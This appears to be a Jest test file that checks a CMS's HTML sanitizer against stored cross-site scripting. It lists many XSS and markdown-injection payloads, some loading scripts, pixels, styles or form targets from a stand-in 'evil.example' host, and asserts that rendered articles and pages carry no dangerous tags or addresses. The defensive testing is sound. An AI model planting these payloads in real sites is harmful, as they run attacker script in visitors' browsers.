import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { v7 as uuidv7 } from 'uuid';
import { startTestService, type TestService } from './support/service.ts';

let service: TestService;
beforeAll(async () => {
  service = await startTestService();
});
afterAll(() => service.close());

const vectors = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="/api/img?src=a" onload="alert(1)">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=p autofocus onfocus=alert(1)></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "//evil.example";</style><p style="background:url(javascript:alert(1))">x</p>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<details open ontoggle=alert(1)>x</details>',
  '<p><b onmouseover=alert(1)>x</b></p>',
  '<!--><script>alert(1)</script>-->',
  '<<script>alert(1)//<</script>',
  '<img src="//evil.example/pixel.gif"><img src="https://evil.example/pixel.gif">',
  '<img src="/admin/login?x=/api/img?src=a"><img src="x/api/img?src=a">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
];
const markdown = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1) "t")',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/p.gif)',
  '![x" onerror="alert(1)](/api/img?src=a)',
  '<javascript:alert(1)>',
  '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
  '```html"><script>alert(1)</script>\nx\n```',
];
const all = [...vectors, ...vectors.map((vector) => `Metin\n\n${vector}`), ...markdown];

/** What a browser would do something with: tags, their attributes and addresses; text alone is harmless. */
function dangers(html: string): string[] {
  const found: string[] = [];
  for (const [tag = ''] of html.matchAll(/<[^>]*>/g)) {
    if (
      !/^<\/?(?:h[2-4]|p|br|hr|strong|em|b|i|u|s|a|code|pre|ul|ol|li|blockquote|img|table|thead|tbody|t[rhd])(?=[\s/>])/.test(
        tag,
      )
    )
      found.push(tag);
    const bare = tag.replace(/"[^"]*"/g, '""');
    if (/\s(?:on\w+|style|srcdoc|action|formaction)\s*=/i.test(bare)) found.push(tag);
    const address = /\s(?:href|src)="([^"]*)"/.exec(tag)?.[1];
    if (address !== undefined && !/^(?:https?:\/\/|mailto:|tel:|\/(?!\/)|#)/.test(address)) found.push(tag);
    if (tag.startsWith('<img') && !address?.startsWith('/api/img?src=')) found.push(tag);
  }
  return found;
}

it('the check itself sees what is dangerous', () => {
  for (const html of [
    '<script>',
    '<p onclick="x">',
    '<a href="javascript:x">',
    '<img src="https://x.example/a">',
  ]) {
    expect(dangers(html)).toEqual([html]);
  }
  expect(dangers('<p>Bir <a href="https://a.example" rel="x">bağ</a> &lt;script&gt;</p>')).toEqual([]);
});

const blank = { coverImage: null, seoTitle: '', seoDescription: '', publishedAt: null };

describe('[R201] stored scripts', () => {
  it.each(all)('are harmless on save and on reading: %s', async (content) => {
    const answer = await service.asAdmin('POST', '/api/cms/articles', { title: 'x', content });
    expect(answer.statusCode).toBe(201);
    const { article } = answer.json();
    expect(dangers(article.html)).toEqual([]);
    const stored = await service.stage.mongo.collection('articles').findOne({ _id: article._id });
    if (content.startsWith('<') && !content.startsWith('<<') && !content.startsWith('<javascript')) {
      expect(dangers(stored?.content)).toEqual([]);
    }
  });

  it('are harmless even when they are in the store already', async () => {
    const at = new Date();
    const shared = {
      ...blank,
      status: 'published',
      deletedAt: null,
      createdAt: at,
      updatedAt: at,
      version: 1,
      pendingEvents: [],
    };
    await service.stage.mongo.collection('pages').insertMany(
      all.map((content, index) => ({
        ...shared,
        _id: uuidv7() as never,
        slug: `eski-${index}`,
        title: 'x',
        content,
        order: 100,
      })),
    );
    for (const [index] of all.entries()) {
      const { items } = (await service.get(`/api/cms/pages?slug=eski-${index}`)).json();
      expect(dangers(items[0].html)).toEqual([]);
    }
  });

  it('a text that cannot be rendered any more takes nobody else’s page down', async () => {
    const at = new Date();
    await service.stage.mongo.collection('pages').insertOne({
      ...blank,
      _id: uuidv7() as never,
      slug: 'derin',
      title: 'x',
      content: '>'.repeat(20_000),
      order: 101,
      version: 1,
      status: 'published',
      deletedAt: null,
      createdAt: at,
      updatedAt: at,
      pendingEvents: [],
    });
    const answer = await service.get('/api/cms/pages?slug=derin');
    expect(answer.statusCode).toBe(200);
    expect(answer.json().items[0].html).toMatch(/^<p>&gt;/);
  });
});
